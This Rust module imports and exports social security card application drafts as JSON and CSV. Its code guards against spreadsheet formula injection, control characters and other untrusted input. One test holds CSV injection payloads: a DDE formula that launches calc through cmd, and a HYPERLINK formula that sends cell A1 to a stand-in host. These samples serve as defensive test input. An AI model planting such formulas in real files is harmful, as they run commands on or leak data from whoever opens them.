//! The application as other systems exchange it: a JSON object a line (the model's own
//! shape, any part of it) and CSV rows (the columns `drafts export --format csv` writes).
//! What comes in is a draft of the person's data: the model's bookkeeping (id, status,
//! times, application number) is this counter's, so it is never required, and what is
//! given of it is ignored but for an id that is a valid UUID.

use chrono::{DateTime, Utc};
use serde_json::{Map, Value};
use uuid::Uuid;

use super::application::{Application, PickupMethod, Status, ValidUntil};
use super::id_number::Gender;
use super::photo_slot::PhotoSlot;

/// The CSV columns, in order: what export writes and import reads.
pub const CSV_COLUMNS: [&str; 25] = [
    "id",
    "status",
    "name",
    "id_type",
    "id_number",
    "gender",
    "birth_date",
    "ethnicity",
    "mobile",
    "district",
    "address",
    "occupation",
    "pickup_method",
    "recipient_name",
    "recipient_mobile",
    "recipient_district",
    "postcode",
    "mail_address",
    "application_number",
    "applied_by",
    "agent_name",
    "agent_id_type",
    "agent_id_number",
    "agent_relation",
    "agent_mobile",
];

/// The bookkeeping an import never takes from the file.
const BOOKKEEPING: [&str; 6] = [
    "status",
    "created_at",
    "updated_at",
    "application_number",
    "purged_at",
    "returned",
];

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab or a carriage
/// return first) gets a `'` in front, as OWASP advises: opened in Excel or WPS it shows as
/// text. `draft_from_csv` takes the `'` off again.
pub fn csv_cell(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

/// The value a `csv_cell` holds.
fn from_csv_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => cell,
    }
}

/// One application's CSV row (`CSV_COLUMNS`), every cell guarded by `csv_cell`.
pub fn csv_row(app: &Application) -> [String; 25] {
    csv_values(app).map(|v| csv_cell(&v))
}

fn csv_values(app: &Application) -> [String; 25] {
    let a = &app.applicant;
    let m = &app.pickup.mail;
    // The agent's columns only for a 代办 application (an agent kept from a switch back to
    // 本人申领 is not part of it).
    let g = if app.by_agent() {
        app.agent.clone()
    } else {
        Default::default()
    };
    [
        app.id.to_string(),
        app.status.key().into(),
        a.name.clone(),
        a.id_type.key().into(),
        a.id_number.clone(),
        a.gender.map(|g| g.label().to_owned()).unwrap_or_default(),
        a.birth_date.clone(),
        a.ethnicity.clone(),
        a.mobile.clone(),
        app.residence.district.clone(),
        app.residence.address.clone(),
        app.occupation.clone(),
        app.pickup
            .method
            .map(|p| p.label().to_owned())
            .unwrap_or_default(),
        m.recipient_name.clone(),
        m.recipient_mobile.clone(),
        m.district.clone(),
        m.postcode.clone(),
        m.address.clone(),
        app.application_number.clone().unwrap_or_default(),
        app.applied_by.label().into(),
        g.name,
        if app.by_agent() {
            g.id_type.key().into()
        } else {
            String::new()
        },
        g.id_number,
        g.relation,
        g.mobile,
    ]
}

/// A draft read from another system, with what was noticed on the way (unknown keys
/// ignored, say). `Err` says in Chinese why it cannot be a draft at all.
#[derive(Debug)]
pub struct Imported {
    pub app: Application,
    pub notes: Vec<String>,
    /// Photo files that came with the line, by slot: paths as written (relative to the
    /// import file), for the importer to read, check and store. The draft names no photo
    /// but these: a photo is never attached by its hash alone (whoever knows a hash would
    /// otherwise take another person's photo from the store).
    pub photo_files: Vec<(PhotoSlot, String)>,
}

/// The CSV column (and JSON `photo_files` key) of a photo file: `card_photo_file`…
pub fn photo_file_column(slot: PhotoSlot) -> String {
    format!("{}_file", slot.key())
}

/// A draft from one JSON object: any part of the model's shape; the rest gets the new
/// draft's defaults.
pub fn draft_from_json(line: &str, now: DateTime<Utc>) -> Result<Imported, String> {
    let input: Value = serde_json::from_str(line).map_err(|e| format!("不是有效的 JSON（{e}）"))?;
    let Value::Object(input) = input else {
        return Err("每行应是一个 JSON 对象（{…}），表示一份申请".into());
    };
    let mut notes = Vec::new();
    refuse_control_characters(&Value::Object(input.clone()), "")?;
    let fresh = Application::new(now);
    let mut merged = serde_json::to_value(&fresh).map_err(|e| e.to_string())?;
    let id = match input.get("id") {
        None | Some(Value::Null) => fresh.id,
        Some(Value::String(s)) => match Uuid::parse_str(s.trim()) {
            Ok(id) => id,
            Err(_) => {
                notes.push(format!("id“{s}”不是 UUID，已换成新的编号"));
                fresh.id
            }
        },
        Some(_) => {
            notes.push("id 不是字符串，已换成新的编号".into());
            fresh.id
        }
    };
    for key in BOOKKEEPING {
        if input.contains_key(key) {
            notes.push(format!("{key} 由本机生成，文件中的值已忽略"));
        }
    }
    let mut given = input;
    given.remove("id");
    for key in BOOKKEEPING {
        given.remove(key);
    }
    let photo_files = match given.remove("photo_files") {
        None | Some(Value::Null) => Vec::new(),
        Some(Value::Object(files)) => {
            let mut out = Vec::new();
            for (key, path) in files {
                let slot = PhotoSlot::from_key(&key)
                    .ok_or_else(|| format!("photo_files.{key} 不是照片的名称（card_photo、id_front、id_back、agent_id_card、authorisation）"))?;
                match path {
                    Value::String(p) if !p.trim().is_empty() => {
                        out.push((slot, p.trim().to_owned()))
                    }
                    Value::String(_) | Value::Null => {}
                    _ => return Err(format!("photo_files.{key} 应是文件路径")),
                }
            }
            out
        }
        Some(_) => return Err("photo_files 应是 {\"card_photo\": \"路径\", …}".into()),
    };

    merge(&mut merged, &Value::Object(given), "", &mut notes);
    merged["id"] = Value::String(id.to_string());
    let mut app: Application = serde_path_to_error::deserialize(merged).map_err(|e| {
        let path = e.path().to_string();
        format!("{path}：{}", e.into_inner())
    })?;
    // A photo comes as a file with its line, never by a hash: whoever knows a hash would
    // otherwise take another person's photo from the store.
    let mut by_hash = Vec::new();
    for slot in PhotoSlot::ALL {
        if app.photo_mut(slot).take().is_some() {
            by_hash.push(slot.short_label());
        }
    }
    if !by_hash.is_empty() {
        notes.push(format!(
            "{}按哈希给出，已忽略：照片须随行以文件给出（photo_files）",
            by_hash.join("、")
        ));
    }
    let app = as_new_draft(app, now, &mut notes);
    Ok(Imported {
        app,
        notes,
        photo_files,
    })
}

/// A draft from one CSV row, read by its header (any subset of `CSV_COLUMNS`, in any
/// order; unknown columns are noted and ignored).
pub fn draft_from_csv(
    header: &[&str],
    row: &[&str],
    now: DateTime<Utc>,
) -> Result<Imported, String> {
    let mut app = Application::new(now);
    let mut notes = Vec::new();
    let mut photo_files = Vec::new();
    for (column, value) in header.iter().zip(row) {
        let column = column.trim().trim_start_matches('\u{feff}');
        let value = from_csv_cell(value.trim());
        if value.chars().any(char::is_control) {
            return Err(format!("{column} 含控制字符"));
        }
        if value.chars().count() > MAX_FIELD_CHARS {
            return Err(format!(
                "{column} 有 {} 个字符，超过 {MAX_FIELD_CHARS}：不像申请中的内容",
                value.chars().count()
            ));
        }
        if value.contains('*')
            && matches!(
                column,
                "id_number" | "mobile" | "recipient_mobile" | "agent_id_number" | "agent_mobile"
            )
        {
            return Err(format!(
                "{column} 已打码（导出时未加 --reveal）：打码的号码不能导入"
            ));
        }
        let a = &mut app.applicant;
        let m = &mut app.pickup.mail;
        match column {
            "id" if !value.is_empty() => match Uuid::parse_str(value) {
                Ok(id) => app.id = id,
                Err(_) => notes.push(format!("id“{value}”不是 UUID，已换成新的编号")),
            },
            "id" | "status" | "application_number" => {}
            "name" => a.name = value.into(),
            "id_type" if value.is_empty() => {}
            "id_type" => {
                a.id_type = super::IdType::ALL
                    .into_iter()
                    .find(|t| t.key() == value || t.label() == value)
                    .ok_or_else(|| format!("id_type“{value}”不是已知的证件类型"))?
            }
            "id_number" => a.id_number = value.into(),
            "gender" => {
                a.gender = match value {
                    "" => None,
                    "男" | "male" => Some(Gender::Male),
                    "女" | "female" => Some(Gender::Female),
                    _ => return Err(format!("gender“{value}”应为 男 或 女")),
                }
            }
            "birth_date" => a.birth_date = value.into(),
            "ethnicity" => a.ethnicity = value.into(),
            "mobile" => a.mobile = value.into(),
            "district" => app.residence.district = value.into(),
            "address" => app.residence.address = value.into(),
            "occupation" if !value.is_empty() => app.occupation = value.into(),
            "occupation" => {}
            "pickup_method" if value.is_empty() => {}
            "pickup_method" => {
                app.pickup.method = Some(
                    [PickupMethod::BankMail, PickupMethod::BranchPickup]
                        .into_iter()
                        .find(|p| p.key() == value || p.label() == value)
                        .ok_or_else(|| {
                            format!("pickup_method“{value}”应为 银行邮寄 或 个人网点领卡")
                        })?,
                )
            }
            "recipient_name" => m.recipient_name = value.into(),
            "recipient_mobile" => m.recipient_mobile = value.into(),
            "recipient_district" => m.district = value.into(),
            "postcode" => m.postcode = value.into(),
            "mail_address" => m.address = value.into(),
            "applied_by" if value.is_empty() => {}
            "applied_by" => {
                app.applied_by = super::AppliedBy::ALL
                    .into_iter()
                    .find(|b| b.key() == value || b.label() == value)
                    .ok_or_else(|| format!("applied_by“{value}”应为 本人申领 或 代办申领"))?
            }
            "agent_name" => app.agent.name = value.into(),
            "agent_id_type" if value.is_empty() => {}
            "agent_id_type" => {
                app.agent.id_type = super::IdType::ALL
                    .into_iter()
                    .find(|t| t.key() == value || t.label() == value)
                    .ok_or_else(|| format!("agent_id_type“{value}”不是已知的证件类型"))?
            }
            "agent_id_number" => app.agent.id_number = value.into(),
            "agent_relation" => {
                let refs = super::refdata::refdata();
                app.agent.relation = refs
                    .agent_relations
                    .iter()
                    .find(|r| r.code == value || r.name == value)
                    .map(|r| r.code.to_owned())
                    .unwrap_or_else(|| value.to_owned())
            }
            "agent_mobile" => app.agent.mobile = value.into(),
            other => match PhotoSlot::ALL
                .into_iter()
                .find(|s| photo_file_column(*s) == other)
            {
                Some(_) if value.is_empty() => {}
                Some(slot) => photo_files.push((slot, value.to_owned())),
                None => notes.push(format!("未知的列 {other}，已忽略")),
            },
        }
    }
    let app = as_new_draft(app, now, &mut notes);
    Ok(Imported {
        app,
        notes,
        photo_files,
    })
}

/// Whatever came in starts on this counter as a draft, now, every field tidied as if
/// typed (dates as YYYY-MM-DD, gender and birth date from the ID number). Nothing is taken
/// on trust from a file: the resident's consents and the clerk's in-person checks are
/// given at the counter (the wizard, or `drafts submit --consents-given`), never by a line.
fn as_new_draft(mut app: Application, now: DateTime<Utc>, notes: &mut Vec<String>) -> Application {
    if app.consents != Default::default() {
        notes.push(
            "文件中的同意和核验记录已忽略：须在向导中当面确认（或 drafts submit --consents-given）"
                .into(),
        );
    }
    app.consents = Default::default();
    // Nor the central API's answer: the eligibility check runs here (the bank and the
    // pickup it allows come with it).
    if !matches!(app.eligibility, super::Eligibility::NotChecked) || app.card_issuer.is_some() {
        notes.push("文件中的资格校验结果和发卡银行已忽略：由本机向社保卡系统校验".into());
    }
    app.eligibility = super::Eligibility::NotChecked;
    app.card_issuer = None;
    app.id_number_on_card = None;
    app.recognised.clear();
    app.status = Status::Draft;
    app.application_number = None;
    app.purged_at = None;
    app.returned = None;
    app.created_at = now;
    app.updated_at = now;
    if let ValidUntil::Date(d) = &app.applicant.id_valid_until
        && matches!(d.trim(), "长期" | "cq" | "CQ")
    {
        app.applicant.id_valid_until = ValidUntil::LongTerm;
    }
    let today = super::dates::beijing_date(now);
    for field in super::Field::ALL {
        app.tidy(field, today);
    }
    app
}

/// Merge `given` into the new draft's `base`, object by object; a tagged value (an enum:
/// `{"kind": …}`, `{"state": …}`) or anything not an object is replaced whole. Keys the
/// model does not have are noted and ignored.
fn merge(base: &mut Value, given: &Value, path: &str, notes: &mut Vec<String>) {
    let (Value::Object(base_map), Value::Object(given_map)) = (&mut *base, given) else {
        *base = given.clone();
        return;
    };
    if is_tagged(base_map) {
        *base = given.clone();
        return;
    }
    for (key, value) in given_map {
        let here = if path.is_empty() {
            key.clone()
        } else {
            format!("{path}.{key}")
        };
        match base_map.get_mut(key) {
            Some(slot) => merge(slot, value, &here, notes),
            None if OPTIONAL_KEYS.contains(&here.as_str()) => {
                base_map.insert(key.clone(), value.clone());
            }
            None => notes.push(format!("未知字段 {here}，已忽略")),
        }
    }
}

/// Keys the model has that a new draft's JSON leaves out (skipped while empty).
const OPTIONAL_KEYS: [&str; 4] = [
    "recognised",
    "agent",
    "consents.agent_id_card_checked_at",
    "consents.applicant_id_card_checked_at",
];

fn is_tagged(map: &Map<String, Value>) -> bool {
    map.contains_key("kind") || map.contains_key("state")
}

/// The longest text a field of an application holds (an address is under 100 characters).
pub const MAX_FIELD_CHARS: usize = 500;

fn refuse_control_characters(value: &Value, path: &str) -> Result<(), String> {
    match value {
        Value::String(s) if s.chars().any(char::is_control) => {
            Err(format!("{path} 含控制字符（换行、转义等），不能导入"))
        }
        Value::String(s) if s.chars().count() > MAX_FIELD_CHARS => Err(format!(
            "{path} 有 {} 个字符，超过 {MAX_FIELD_CHARS}：不像申请中的内容，不能导入",
            s.chars().count()
        )),
        Value::Object(map) => map.iter().try_for_each(|(k, v)| {
            let here = if path.is_empty() {
                k.clone()
            } else {
                format!("{path}.{k}")
            };
            refuse_control_characters(v, &here)
        }),
        Value::Array(items) => items
            .iter()
            .try_for_each(|v| refuse_control_characters(v, path)),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    fn now() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2026, 12, 2, 2, 0, 0).unwrap()
    }

    #[test]
    fn only_the_persons_data_are_needed() {
        let line = r#"{"applicant":{"name":" 王秀英 ","id_number":"11010519491231002x","mobile":"13800138000"},"residence":{"district":"110105","address":"朝阳区建国路88号"}}"#;
        let Imported { app, notes, .. } = draft_from_json(line, now()).unwrap();
        assert!(notes.is_empty(), "{notes:?}");
        assert_eq!(app.status, Status::Draft);
        assert_eq!(app.created_at, now());
        assert_eq!(app.applicant.name, "王秀英");
        assert_eq!(app.applicant.id_number, "11010519491231002X");
        assert_eq!(app.applicant.gender, Some(Gender::Female));
        assert_eq!(app.applicant.birth_date, "1949-12-31");
        assert_eq!(app.occupation, "80", "the new draft's default");
        assert_eq!(app.applicant.nationality, "CHN");
    }

    #[test]
    fn bookkeeping_in_the_file_is_ignored_and_said() {
        let line = r#"{"id":"not-a-uuid","status":"delivered","application_number":"SQ1","applicant":{"name":"张三"}}"#;
        let Imported { app, notes, .. } = draft_from_json(line, now()).unwrap();
        assert_eq!(app.status, Status::Draft);
        assert_eq!(app.application_number, None);
        assert_eq!(notes.len(), 3, "{notes:?}");
        let kept = "7d9c1a3e-2b4f-4c8e-9a1d-3f5e6b7c8d9e";
        let with_id = format!(r#"{{"id":"{kept}","applicant":{{"name":"张三"}}}}"#);
        assert_eq!(
            draft_from_json(&with_id, now()).unwrap().app.id.to_string(),
            kept
        );
    }

    #[test]
    fn enums_are_replaced_whole_and_typos_are_named() {
        let line = r#"{"applicant":{"id_valid_until":{"kind":"long_term"},"nmae":"x"},"eligibility":{"state":"pending","requested_at":"2026-12-01T00:00:00Z"}}"#;
        let Imported { app, notes, .. } = draft_from_json(line, now()).unwrap();
        assert_eq!(app.applicant.id_valid_until, ValidUntil::LongTerm);
        // The eligibility answer is never taken from a file: checked here.
        assert_eq!(app.eligibility, super::super::Eligibility::NotChecked);
        assert_eq!(
            notes,
            [
                "未知字段 applicant.nmae，已忽略",
                "文件中的资格校验结果和发卡银行已忽略：由本机向社保卡系统校验"
            ]
        );
    }

    #[test]
    fn what_cannot_be_a_draft_says_where() {
        let e = draft_from_json(r#"{"applicant":{"gender":"x"}}"#, now()).unwrap_err();
        assert!(e.starts_with("applicant.gender"), "{e}");
        let e = draft_from_json(r#"{"applicant":{"name":"张\u001b[2J三"}}"#, now()).unwrap_err();
        assert!(
            e.contains("applicant.name") && e.contains("控制字符"),
            "{e}"
        );
        assert!(draft_from_json("[1]", now()).is_err());
        assert!(draft_from_json("{", now()).is_err());
    }

    #[test]
    fn a_csv_row_as_export_writes_it_comes_back() {
        let mut app = crate::domain::synthetic::application(
            &mut crate::domain::synthetic::Rng::new(4),
            now(),
            0,
        );
        app.applicant.id_valid_from.clear();
        let row = csv_row(&app);
        let cells: Vec<&str> = row.iter().map(String::as_str).collect();
        let back = draft_from_csv(&CSV_COLUMNS, &cells, now()).unwrap();
        assert!(back.notes.is_empty(), "{:?}", back.notes);
        let b = back.app;
        assert_eq!(b.id, app.id);
        assert_eq!(b.applicant.name, app.applicant.name);
        assert_eq!(b.applicant.id_number, app.applicant.id_number);
        assert_eq!(b.applicant.gender, app.applicant.gender);
        assert_eq!(b.residence, app.residence);
        assert_eq!(b.pickup, app.pickup);
        assert_eq!(b.status, Status::Draft);
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_text_and_come_back_as_they_were() {
        let mut app = Application::new(now());
        app.applicant.name = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        app.residence.address = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"点我\")".into();
        app.pickup.mail.address = "-2+3".into();
        let row = csv_row(&app);
        for cell in &row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
        let cells: Vec<&str> = row.iter().map(String::as_str).collect();
        let back = draft_from_csv(&CSV_COLUMNS, &cells, now()).unwrap().app;
        assert_eq!(back.applicant.name, app.applicant.name);
        assert_eq!(back.residence.address, app.residence.address);
        assert_eq!(back.pickup.mail.address, "-2+3");
        assert_eq!(csv_cell("\t=1"), "'\t=1");
        assert_eq!(csv_cell("\r=1"), "'\r=1");
        assert_eq!(csv_cell("王秀英"), "王秀英");
        assert_eq!(
            csv_cell("'quoted"),
            "'quoted",
            "only formula starts are guarded"
        );
    }

    #[test]
    fn masked_or_broken_csv_values_are_refused() {
        let header = ["name", "id_number"];
        let e = draft_from_csv(&header, &["张三", "110105********002X"], now()).unwrap_err();
        assert!(e.contains("打码"), "{e}");
        let e = draft_from_csv(&["gender"], &["x"], now()).unwrap_err();
        assert!(e.contains("男 或 女"), "{e}");
        let ok = draft_from_csv(&["姓名", "name"], &["?", "李四"], now()).unwrap();
        assert_eq!(ok.notes, ["未知的列 姓名，已忽略"]);
    }

    #[test]
    fn an_agent_comes_and_goes_in_json_and_csv() {
        let json: Value =
            serde_json::from_str(include_str!("../../docs/application-example-agent.json"))
                .unwrap();
        let Imported { app, notes, .. } = draft_from_json(&json.to_string(), now()).unwrap();
        // Only the bookkeeping and the photos named by hash are said; every agent field is
        // the model's.
        assert!(
            notes.iter().all(|n| n.contains("由本机生成")
                || n.contains("按哈希给出，已忽略")
                || n.contains("同意和核验记录已忽略")
                || n.contains("资格校验结果和发卡银行已忽略")),
            "{notes:?}"
        );
        assert!(
            PhotoSlot::ALL
                .iter()
                .all(|s| app.photo_of(s.field()).is_none())
        );
        assert_eq!(app.applied_by, super::super::AppliedBy::Agent);
        assert_eq!(app.agent.name, "李建国");
        // The file's checks are not taken: they are made at the counter.
        assert_eq!(app.consents, Default::default());
        let row = csv_row(&app);
        let cells: Vec<&str> = row.iter().map(String::as_str).collect();
        let back = draft_from_csv(&CSV_COLUMNS, &cells, now()).unwrap();
        assert!(back.notes.is_empty(), "{:?}", back.notes);
        assert_eq!(back.app.applied_by, app.applied_by);
        let (mut a, mut b) = (app.agent.clone(), back.app.agent.clone());
        a.photos = Default::default();
        b.photos = Default::default();
        assert_eq!(a, b, "the papers are photos, not CSV");
        // A masked agent number is refused like the applicant's.
        let e = draft_from_csv(&["agent_id_number"], &["110105********0018"], now()).unwrap_err();
        assert!(e.contains("打码"), "{e}");
        // 本人申领 exports no agent, whatever is kept.
        let mut alone = app.clone();
        alone.applied_by = super::super::AppliedBy::Applicant;
        let row = csv_row(&alone);
        for (column, cell) in CSV_COLUMNS.iter().zip(&row) {
            if column.starts_with("agent_") {
                assert!(cell.is_empty(), "{column}: {cell}");
            }
        }
    }
}
